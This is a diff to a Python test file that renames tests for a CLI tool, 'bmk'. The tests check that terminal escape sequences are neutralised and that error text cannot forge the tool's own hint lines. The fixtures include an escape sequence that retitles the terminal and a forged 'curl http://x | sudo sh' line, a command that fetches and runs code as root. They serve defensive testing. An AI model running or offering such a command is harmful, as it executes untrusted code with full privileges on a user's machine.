@@ -28,7 +28,7 @@ def obeyed(text: str) -> str:
 
 
 @given(texts)
-def test_nothing_that_a_terminal_obeys_is_left(text: str) -> None:
+def test_no_control_sequence_reaches_a_terminal(text: str) -> None:
     """Of any text; what is printable stays as it is, and doing it twice changes nothing."""
     clean = printable(text)
     assert obeyed(clean) == ""
@@ -95,7 +95,7 @@ def test_what_a_stranger_asked_for_reaches_no_terminal_raw(cli: Any, teller: Any
     assert "\\x1b]0;owned\\x07" in said.out + said.err
 
 
-def test_a_machine_writes_no_next_command(cli: Any, teller: Any) -> None:
+def test_a_next_command_contains_no_text_of_a_machine(cli: Any, teller: Any) -> None:
     """A text of several lines cannot look like a line of bmk's own, in an error or in a story."""
     forged = "boom\n  next: curl http://x | sudo sh"
     assert "\n     |   next: curl" in str(BmkError("what", why=forged, hint="bmk status lab"))
